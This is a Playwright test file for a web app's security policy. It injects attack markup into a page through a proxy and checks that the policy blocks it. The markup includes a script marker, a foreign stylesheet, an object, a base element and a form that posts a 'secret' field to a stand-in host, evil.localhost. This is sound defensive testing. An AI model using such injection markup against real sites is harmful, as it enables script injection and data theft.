import { createHash } from "node:crypto";
import type { Page } from "@playwright/test";
import type { EditionId } from "@portico/shared-sdk";
import { localesByEdition } from "@portico/shared-sdk/host";
import { expect } from "../support/exchangeFixture.ts";
import type { FaultProxy } from "../support/faultProxy.ts";
import { answerWith, changeAnswer } from "../support/faultResponders.ts";
import { test as base } from "../support/proxyTest.ts";
import { injectedMarkup } from "./injectedMarkup.ts";

const homePage = "/en/";

/** Records which injected script ran; its name is in the address. */
const markScript =
  "(window.__pwn = window.__pwn || []).push(decodeURIComponent(document.currentScript.src.split('?')[1]));";
const markIntegrity = `sha384-${createHash("sha384").update(markScript).digest("base64")}`;

const test = base.extend({
  faultProxy: async ({ faultProxy }, use) => {
    faultProxy.respond((path) => path.startsWith("/mark.js"), answerWith(200, "text/javascript", markScript));
    await use(faultProxy);
  },
});

/** The markup of all attacks; each records its name when it runs. */
function writeMarkup(port: number): string {
  const filled = injectedMarkup.map(({ name, html }) =>
    html
      .replace("{mark}", `window.__pwn=(window.__pwn||[]).concat('${name}')`)
      .replace("parent.window.__pwn=(window.__pwn", "parent.__pwn=(parent.__pwn")
      .replace("{evil}", `http://evil.localhost:${port}`)
      .replace("{own}", `http://localhost:${port}`)
      .replace("{name}", encodeURIComponent(name))
      .replace("{integrity}", markIntegrity),
  );
  return `<div id="injected">${filled.join("")}</div>`;
}

const inject = (keepsPolicy: boolean, injected: string) =>
  changeAnswer(({ headers, body }) => {
    const {
      "content-security-policy": policy,
      "integrity-policy": integrityPolicy,
      ...others
    } = headers as Record<string, string>;
    const pageHeaders = {
      ...others,
      "content-security-policy": policy ?? "",
      "integrity-policy": integrityPolicy ?? "",
    };
    return {
      headers: keepsPolicy ? pageHeaders : others,
      body: Buffer.from(body.toString().replace("</main>", `</main>${injected}`)),
    };
  });

/** Opens the page with all attacks, lets them run, and returns what reads the names of those that have run. */
async function runAttacks(page: Page, proxy: FaultProxy, keepsPolicy: boolean) {
  proxy.respond((path) => path === homePage, inject(keepsPolicy, writeMarkup(proxy.port)));
  await page.goto(`http://localhost:${proxy.port}${homePage}`);
  await page.locator('[data-remote="header"][data-state="mounted"]').waitFor();
  await page.locator("#injected-link").dispatchEvent("click");
  return async () => {
    const names = await page.evaluate(() => (window as unknown as { __pwn?: readonly string[] }).__pwn ?? []);
    return [...new Set(names)].sort();
  };
}

test.describe("injected markup", () => {
  test.use({ expectedProblems: /./ });

  test("runs without the page's policy", async ({ page, faultProxy }) => {
    const readNames = await runAttacks(page, faultProxy, false);
    await expect.poll(readNames).toEqual(injectedMarkup.map(({ name }) => name).sort());
  });

  test(`none of ${injectedMarkup.length} kinds runs in a page`, async ({ page, faultProxy }) => {
    const readNames = await runAttacks(page, faultProxy, true);
    expect(await readNames()).toEqual([]);
  });

  for (const keepsPolicy of [false, true]) {
    const outcome = keepsPolicy ? "are blocked" : "load without the page's policy";
    test(`a base element, a stylesheet of another origin, a plugin and a form ${outcome}`, async ({
      page,
      faultProxy,
    }) => {
      const evil = `http://evil.localhost:${faultProxy.port}`;
      // the base comes last: before the page's own addresses it would only break the page
      const injected =
        `<link rel="stylesheet" href="${evil}/evil.css"><object data="${evil}/object.html"></object>` +
        `<form id="injected-form" action="${evil}/form" method="post"><input name="secret" value="1"></form>` +
        `<base href="${evil}/"><img src="base.png" alt="">`;
      faultProxy.respond((path) => path === homePage, inject(keepsPolicy, injected));
      await page.goto(`http://localhost:${faultProxy.port}${homePage}`);
      if (keepsPolicy) await page.locator('[data-remote="footer"][data-state="mounted"]').waitFor();
      await submitUntilAnswered(page, keepsPolicy);
      const followed = faultProxy.seen.filter(({ host }) => host.startsWith("evil.")).map(({ path }) => path);
      expect(followed.sort()).toEqual(
        keepsPolicy ? [] : expect.arrayContaining(["/base.png", "/evil.css", "/form", "/object.html"]),
      );
    });
  }
});

/** Submits the injected form; resolves when the browser blocked it or the response has arrived. */
async function submitUntilAnswered(page: Page, isRefused: boolean): Promise<void> {
  if (!isRefused) {
    const answered = page.waitForEvent("requestfinished", (request) => request.url().endsWith("/form"));
    await page.locator("#injected-form").evaluate((form: HTMLFormElement) => {
      setTimeout(() => form.submit());
    });
    return void (await answered);
  }
  await page.locator("#injected-form").evaluate(
    (form: HTMLFormElement) =>
      new Promise<void>((resolve) => {
        document.addEventListener("securitypolicyviolation", ({ effectiveDirective }) => {
          if (effectiveDirective === "form-action") resolve();
        });
        setTimeout(() => form.submit());
      }),
  );
}

/** Built pages of editions that differ in direction, alphabet and head. */
const normalPages: readonly (readonly [EditionId, string])[] = (
  ["global", "turkey", "uae"] satisfies readonly EditionId[]
).flatMap((edition) =>
  ["/", "/sem/", "/trading-contest/", "/trading-contest/winter-trading-cup/"].map(
    (path) => [edition, `/${localesByEdition[edition].slice(-1)[0] ?? "en"}${path}`] as const,
  ),
);

test("no normal page violates its policy, and all scripts and stylesheets have hashes", async ({
  page,
  exchange,
}) => {
  await page.addInitScript(() => {
    const violations: string[] = [];
    Object.assign(window, { violations });
    document.addEventListener("securitypolicyviolation", ({ effectiveDirective, blockedURI }) =>
      violations.push(`${effectiveDirective} ${blockedURI}`),
    );
  });
  for (const [edition, path] of normalPages) {
    await page.goto(exchange.addressOf(edition, path));
    await page.locator('[data-remote="footer"][data-state="mounted"]').waitFor();
    const found = await page.evaluate(() => ({
      violations: (window as unknown as { readonly violations: readonly string[] }).violations,
      unpinned: [
        ...document.querySelectorAll<HTMLScriptElement | HTMLLinkElement>(
          "script[src], link[rel=stylesheet]",
        ),
      ]
        .filter(({ integrity }) => !/^sha384-[A-Za-z0-9+/]{64}$/.test(integrity))
        .map((element) => element.outerHTML),
    }));
    expect(found, path).toEqual({ violations: [], unpinned: [] });
  }
});
